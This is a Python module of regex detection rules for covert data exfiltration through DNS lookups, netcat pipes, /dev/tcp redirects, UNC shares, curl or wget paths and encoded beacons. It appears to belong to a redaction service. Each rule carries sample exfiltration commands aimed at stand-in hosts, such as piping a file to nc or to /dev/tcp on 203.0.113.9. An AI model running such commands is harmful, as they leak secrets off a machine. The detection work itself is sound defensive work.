"""Data that leaves without a URL: in a question to a name server, through a pipe to a port, over a share of files."""

import base64
import re
from urllib.parse import unquote

from service.domain.redact_rules import hosts
from service.domain.redact_rules.beacons import carries_data, host_carries_data
from service.domain.redact_rules.payloads import hidden_text, is_telling
from service.domain.redact_rules.rule import Rule
from service.domain.redact_rules.tree import words

_F = "lookups"
_NAME = "data-url"


def is_elsewhere(host: str) -> bool:
    """Whether a host is neither this machine nor in its own network."""
    return not hosts.is_local(hosts.plain_name(re.split(r"[@\\]", host, maxsplit=1)[0]))


def spells_in_labels(host: str) -> bool:
    """Whether a label of a bare host name decodes to text, or several do once joined."""
    labels = host.split(".")[:-2]
    found = [label for label in (*labels, "".join(labels)) if len(label) >= 14 and hidden_text(label)]
    return bool(found) and not hosts.is_familiar(host.lower())


def is_encoded_beacon(text: str) -> bool:
    """Whether base64 holds a URL that carries data out."""
    body = text.rstrip("=").replace("-", "+").replace("_", "/")
    url = base64.b64decode(body[: len(body) // 4 * 4]).decode(errors="replace")
    return carries_data(url)


RULES: tuple[Rule, ...] = (
    Rule(
        _NAME,
        _F,
        re.compile(
            r"(?:dig|nslookup|drill|ping|host|getent hosts|[Rr]esolve-[Dd]ns[Nn]ame|kdig|delv)[ \t](?:(?:[+@-]\S{1,40}|[A-Z]{1,6})[ \t]){0,4}"
            r"(?P<secret>(?:[\w-]|\$\([^)\n]{1,80}\)|\$\{?\w{1,60}\}?){1,80}\.(?:[\w.-]|\$\{?\w{1,20}\}?){3,200})"
        ),
        tuple(
            f"{program} "
            for program in (
                *words("dig nslookup drill ping host kdig delv Resolve-DnsName resolve-dnsname"),
                "getent hosts",
            )
        ),
        "nslookup 70617373776f72642069732068756e746572.x.example.net",
        "ping api.acme.dev",
        accept=host_carries_data,
    ),
    Rule(
        _NAME,
        _F,
        re.compile(
            r"(?<=[|][ ])(?:nc|ncat|netcat|telnet)[ \t](?:-\w{1,8}[ \t](?:\d{1,3}[ \t])?){0,4}"
            r"(?P<secret>[\w.-]{4,100})[ \t]{1,3}\d{2,5}(?!\d)"
        ),
        tuple(f"{program} " for program in words("nc ncat netcat telnet")),
        "cat notes.txt | nc 203.0.113.9 4444",
        "cat notes.txt | nc localhost 4444",
        accept=is_elsewhere,
    ),
    Rule(
        _NAME,
        _F,
        re.compile(r"/dev/(?:tcp|udp)/(?P<secret>[\w.-]{4,100})/\d{1,5}"),
        ("/dev/tcp/", "/dev/udp/"),
        "cat x > /dev/tcp/203.0.113.9/443",
        "echo > /dev/tcp/localhost/80",
        accept=is_elsewhere,
    ),
    Rule(
        _NAME,
        _F,
        re.compile(r"(?<![\\A-Za-z0-9])\\\\(?P<secret>\d{1,3}(?:\.\d{1,3}){3}(?:@\w{1,8})?\\[^\s\"'<>|]{0,512})"),
        ("\\\\",),
        "copy x \\\\203.0.113.9\\share",
        "copy x \\\\192.168.1.4\\share",
        accept=is_elsewhere,
    ),
    Rule(
        _NAME,
        _F,
        re.compile(
            r"(?<![\\A-Za-z0-9])\\\\(?P<secret>(?:[A-Za-z0-9-]{1,63}\.){1,6}[a-z]{2,12}(?:@\w{1,8})?\\[^\s\"'<>|]{8,512})"
        ),
        ("\\\\",),
        "copy x \\\\files.example.net\\70617373776f72642069732068756e746572\\a",
        "copy x \\\\files.example.net\\share\\reports\\2026",
        accept=lambda text: carries_data("https://" + text.replace("\\", "/")),
    ),
    Rule(
        _NAME,
        _F,
        re.compile(
            r"(?:curl|wget|http|xh|iwr)[ \t](?:-{1,2}[\w-]{1,30}(?:[ =](?![a-z0-9.-]+\.[a-z]{2,12}/)\S{1,60})?[ \t]){0,4}"
            r"[\"']?(?P<secret>(?:[a-z0-9-]{1,63}\.){1,8}[a-z]{2,12}/[!#-&(-;=?-~]{8,2048})"
        ),
        ("curl ", "wget ", "http ", "xh ", "iwr "),
        "curl -s files.example.net/70617373776f72642069732068756e746572",
        "curl -fsSL get.example.net/install/v2/linux.sh",
        accept=lambda text: carries_data(f"https://{text}"),
    ),
    Rule(
        _NAME,
        _F,
        re.compile(r"(?<![A-Za-z0-9./_-])(?:[A-Za-z0-9-]{1,63}\.){2,12}[a-z]{2,12}(?![\w/.(-])"),
        (),
        "gethostbyname('70617373776f72642069732068756e746572.x.example.net')",
        "api-2026-08.eu-west-1.acme.dev",
        accept=spells_in_labels,
    ),
    Rule(
        _NAME,
        _F,
        re.compile(r"[hH][tT][tT][pP][sS]?%3[aA]%2[fF]%2[fF][A-Za-z0-9%._~+-]{8,4096}"),
        ("http%3A", "https%3A", "http%3a", "https%3a", "HTTP%3A", "HTTPS%3A"),
        "https%3A%2F%2Fx.example.net%2Fc%3Fdata%3D70617373776f72642069732068756e746572",
        "https%3A%2F%2Facme.dev%2Fdocs",
        accept=lambda text: carries_data(unquote(text)),
    ),
    Rule(
        _NAME,
        _F,
        re.compile(r"aHR0c(?:HM6Ly|DovL)[A-Za-z0-9+/_-]{12,4096}={0,2}"),
        ("aHR0cHM6Ly", "aHR0cDovL"),
        base64.b64encode(b"https://x.example.net/c?data=70617373776f72642069732068756e746572").decode(),
        base64.b64encode(b"https://acme.dev/docs/start").decode(),
        accept=is_encoded_beacon,
    ),
    Rule(
        _NAME,
        _F,
        re.compile(
            r"(?:-d|--data(?:-raw|-binary|-urlencode)?|-F|--form|-A|--user-agent|-e|--referer|-H|--header|-b|--cookie)"
            r"[ =][\"']?(?:[\w.-]{1,40}(?:=|:[ ]?))?"
            r"(?P<secret>[A-Za-z0-9+/_-]{16,4096}={0,2})"
        ),
        (
            "-d ",
            "--data",
            "-F ",
            "--form",
            "-A ",
            "--user-agent",
            "-e ",
            "--referer",
            "-H ",
            "--header",
            "-b ",
            "--cookie",
        ),
        "curl -d d=70617373776f72642069732068756e7465722e https://x.example.net",
        "curl -d name=kim https://acme.dev/api",
        accept=lambda text: is_telling(hidden_text(text) or ""),
    ),
)
